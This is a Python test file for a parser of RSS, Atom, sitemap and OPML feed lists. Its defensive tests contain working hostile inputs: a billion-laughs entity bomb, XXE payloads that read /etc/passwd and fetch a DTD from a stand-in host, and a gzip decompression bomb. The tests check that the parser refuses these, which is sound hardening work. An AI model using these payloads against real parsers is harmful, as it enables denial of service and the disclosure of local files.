"""Feeds, sitemaps and lists of feeds: what stands in them, and what hostile ones cannot do."""

from __future__ import annotations

import gzip
import tracemalloc
import zlib
from typing import TYPE_CHECKING

import pytest

from provenance.read.web import Item, Listing, kind_of_listing, listing

if TYPE_CHECKING:
    from conftest import Budget


HERE = "https://site.test/feed.xml"


def items(text: str | bytes, address: str = HERE) -> tuple[Item, ...]:
    found = listing(text.encode() if isinstance(text, str) else text, address)
    assert isinstance(found, Listing), found
    return found.items


def rss(inside: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<!-- made by hand -->\n<rss version="2.0"><channel><title>Site</title><link>https://site.test/</link>{inside}</channel></rss>'


def test_rss_with_the_true_publisher_of_an_item() -> None:
    found = items(
        rss(
            """<item><title>One</title><link>https://hub.test/1?utm_source=rss</link><pubDate>Mon, 03 Jun 2024 10:00:00 GMT</pubDate>
               <source url="https://daily.test/rss.xml">The Daily Example</source></item>
               <item><title>Two</title><link> /2 </link><pubDate>Tue, 04 Jun 2024 10:00:00 +0200</pubDate></item>
               <item><title>Three</title><guid>https://site.test/3</guid></item>
               <item><title>Not an address</title><guid isPermaLink="false">abc</guid></item>
               <item><title>One more time</title><link>https://hub.test/1</link></item>"""
        )
    )
    assert found == (
        Item("https://site.test/2", "2024-06-04"),
        Item("https://hub.test/1", "2024-06-03", "The Daily Example", "https://daily.test/rss.xml"),
        Item("https://site.test/3"),
    )


def test_atom_with_a_source() -> None:
    found = items(
        """<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://site.test/news/"><title>Site</title>
           <entry><title>One</title><link rel="self" href="x"/><link rel="alternate" href="one"/><published>2024-06-03T10:00:00Z</published>
           <source><title>The Daily Example</title><link href="https://daily.test/"/></source></entry>
           <entry><link href="https://site.test/two"/><updated>2024-06-02</updated></entry></feed>"""
    )
    assert found == (
        Item("https://site.test/news/one", "2024-06-03", "The Daily Example", "https://daily.test/"),
        Item("https://site.test/two", "2024-06-02"),
    )


def test_rdf_and_feeds_behind_a_counter() -> None:
    found = items(
        """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/"
           xmlns:fb="http://rssnamespace.org/feedburner/ext/1.0"><item><link>https://counter.test/~r/1</link><fb:origLink>https://site.test/1</fb:origLink>
           <dc:date>2024-06-03T10:00:00+02:00</dc:date></item></rdf:RDF>"""
    )
    assert found == (Item("https://site.test/1", "2024-06-03"),)


def test_sitemaps_news_sitemaps_and_indexes() -> None:
    news = """<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" xmlns:news="http://www.google.com/schemas/sitemap-news/0.9">
      <url><loc>https://site.test/old</loc><lastmod>2024-01-01</lastmod></url>
      <url><loc>https://site.test/new</loc><lastmod>2024-06-09</lastmod><news:news><news:publication><news:name>Site</news:name></news:publication>
      <news:publication_date>2024-06-03T08:00+00:00</news:publication_date><news:title>T</news:title></news:news></url></urlset>"""
    assert items(news) == (Item("https://site.test/new", "2024-06-03"), Item("https://site.test/old", "2024-01-01"))
    assert items(gzip.compress(news.encode())) == items(news)
    index = "<sitemapindex><sitemap><loc>https://site.test/a.xml</loc></sitemap><sitemap><loc>/b.xml.gz</loc><lastmod>2024-05-05</lastmod></sitemap></sitemapindex>"
    found = listing(index.encode(), HERE)
    assert found == Listing(
        "index", (Item("https://site.test/b.xml.gz", "2024-05-05"), Item("https://site.test/a.xml"))
    )


def test_lists_of_feeds() -> None:
    found = listing(
        b"""<?xml version="1.0"?><opml version="2.0"><head><title>Mine</title></head><body><outline text="World">
        <outline type="rss" xmlUrl="https://b.test/rss"/><outline text="x" xmlurl="https://a.test/atom"/></outline>
        <outline xmlUrl="file:///etc/passwd"/><outline text="nothing"/></body></opml>""",
        HERE,
    )
    assert found == Listing("outline", (Item("https://b.test/rss"), Item("https://a.test/atom")))


@pytest.mark.parametrize(
    "text",
    [
        "",
        "<html><body><p>feed</p></body></html>",
        "<!DOCTYPE html>\n<html><rss></html>",
        "rss",
        "{}",
        "<rsss/>",
        "<p>x</p><rss/>",
    ],
)
def test_what_is_no_list(text: str) -> None:
    assert kind_of_listing(text) is None
    assert listing(text.encode(), HERE) is None


def test_broken_lists_are_read_as_far_as_they_go() -> None:
    good = "<item><link>https://site.test/1</link></item>"
    assert items(rss(good + "<item><description>cut off")[:-20]) == (Item("https://site.test/1"),)
    assert items(rss(f"<title>A&nbsp;B &amp C \x00 \x0b</title>{good}")) == (Item("https://site.test/1"),)
    assert items(rss(good).replace("UTF-8", "no-such-code").encode()) == (Item("https://site.test/1"),)
    assert items(rss(good.replace("/1", "/é")).replace("UTF-8", "iso-8859-1").encode("latin-1")) == (
        Item("https://site.test/%C3%A9"),
    )
    assert items("\ufeff  " + rss(good)) == (Item("https://site.test/1"),)
    assert items(rss(good).encode("utf-16")) == (Item("https://site.test/1"),)


BOMB = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a0 "lol">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    + "]>"
)


@pytest.mark.parametrize(
    "text",
    [
        BOMB + "<rss><channel><item><link>https://site.test/&a11;</link></item></channel></rss>",
        BOMB + '<opml><body><outline xmlUrl="https://site.test/&a11;"/></body></opml>',
        '<!DOCTYPE feed [<!ENTITY x SYSTEM "file:///etc/passwd">]><feed><entry><link href="https://site.test/"/><title>&x;</title></entry></feed>',
        '<!DOCTYPE rss [<!ENTITY % x SYSTEM "https://evil.test/x.dtd"> %x;]><rss><channel/></rss>',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_are_refused(text: str, encoding: str, budget: Budget) -> None:
    with budget(10):
        assert listing(text.encode(encoding), HERE) == "refused: it declares XML entities, as no feed has to"


def test_a_packed_bomb_and_a_damaged_pack() -> None:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = b"".join(packer.compress(b"<urlset>" + b" " * 1_000_000) for _ in range(300)) + packer.flush()
    tracemalloc.start()
    assert listing(bomb, HERE) == "larger than 20 MB when unpacked"
    assert tracemalloc.get_traced_memory()[1] < 80_000_000
    tracemalloc.stop()
    assert listing(b"\x1f\x8b" + b"x" * 50, HERE) == "its compressed data is damaged"


def test_deep_nesting_and_very_many_entries() -> None:
    deep = listing(b"<opml><body>" + b"<outline>" * 20_000 + b'<outline xmlUrl="https://a.test/"/>', HERE)
    assert isinstance(deep, Listing)
    many = items("<urlset>" + "".join(f"<url><loc>https://a.test/{n}</loc></url>" for n in range(60_000)) + "</urlset>")
    assert len(many) == 50_000
